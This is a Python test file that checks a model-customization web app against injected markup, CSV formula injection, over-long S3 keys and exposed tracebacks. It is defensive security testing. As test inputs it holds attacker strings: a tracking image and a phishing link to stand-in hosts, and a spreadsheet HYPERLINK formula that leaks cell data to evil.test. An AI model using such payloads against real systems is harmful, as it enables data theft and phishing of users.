"""Text from providers and users is shown as text (12); a CSV export opens in a spreadsheet as
data, not formulas (13); a page never shows a traceback, and an over-long S3 key gets a clear
message (15)."""

from __future__ import annotations

import re

import orjson
from fastapi.testclient import TestClient

from api.app import create_api
from services.customization import NewCustomModel
from tests.support.apptest import APP, make_app, world  # noqa: F401 - the page tests' fixtures
from tests.support.factories import LLAMA, jsonl
from tests.support.fakes import ADMIN, World
from ui.state import Key

TRACKER = "![t](http://evil.test/track.png)"
PHISH = "[Login](http://phish.test)"


def unescaped_markup(text: str) -> list[str]:
    """Markdown images and links that would render (not preceded by a backslash)."""
    return re.findall(r"(?<!\\)!?(?<!\\)\[[^\]]*(?<!\\)\]\((?:http|//)", text)


def test_a_providers_failure_message_renders_as_text(w: World, make_app) -> None:  # noqa: F811
    uri = "s3://my-data/sets/train.jsonl"
    w.objects.put_bytes(uri, jsonl(130))
    model = w.customization.create(NewCustomModel(name="victim", base_model_id=LLAMA), uri, actor=ADMIN)
    # After the checks, the data is swapped in place: Bedrock's own validation now fails the job,
    # and its message quotes the attacker's text.
    evil = orjson.dumps({"prompt": "a", "completion": "b"}).replace(
        b'"prompt"', f'"{TRACKER} {PHISH}": 1, "{TRACKER} {PHISH}"'.encode()
    )
    w.objects.put_bytes(uri, jsonl(130) + evil + b"\n")
    w.clock.advance(seconds=3)
    failed = w.customization.refresh(model.id)
    assert failed.failure_message and "evil.test" in failed.failure_message
    at = make_app().run()
    at.switch_page("views/custom_model.py")
    at.query_params["model"] = model.id
    at.run()
    assert not at.exception
    shown = "\n".join(str(e.value) for kind in ("error", "warning", "markdown", "caption") for e in getattr(at, kind))
    assert "evil" in shown and "phish" in shown  # it is shown...
    assert unescaped_markup(shown) == []  # ...as text: no image fetched, no link to click
    assert unescaped_markup(f"{TRACKER} {PHISH}")  # (the check does find markup when there is some)


def test_the_activity_export_neutralises_formulas(w: World) -> None:
    from ui.activity_view import activity_frame
    from ui.components import csv_bytes

    client = TestClient(create_api(lambda: w.services), client=("127.0.0.1", 50000))
    attack = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
    r = client.post(f"/models/{LLAMA}/disable", headers={"X-Request-Id": attack})
    assert r.status_code == 200
    data = csv_bytes(activity_frame(w.services.audit.audit_events())).decode()
    assert "'=HYPERLINK" in data and ",=HYPERLINK" not in data and '"=HYPERLINK' not in data


def test_an_over_long_s3_key_in_the_form_gets_a_clear_message(w: World, make_app) -> None:  # noqa: F811
    at = make_app().run()
    at.switch_page("views/new_model.py").run()
    at.text_input(key=Key.NM_NAME).set_value("long-key")
    at.text_input(key=Key.NM_TRAINING_URI).set_value("s3://my-data/" + "k" * 300 + ".jsonl")
    at.button(key=Key.NM_CHECK).click().run()
    assert not at.exception
    assert any("at most 255 bytes" in str(e.value).replace("\\", "") for e in at.error)


def test_no_page_shows_a_traceback() -> None:
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(APP).parent / ".streamlit" / "config.toml").read_text())
    assert config["client"]["showErrorDetails"] == "none"
    server = (Path(APP).parent / "server.py").read_text()
    assert 'config.set_option("client.showErrorDetails", "none")' in server
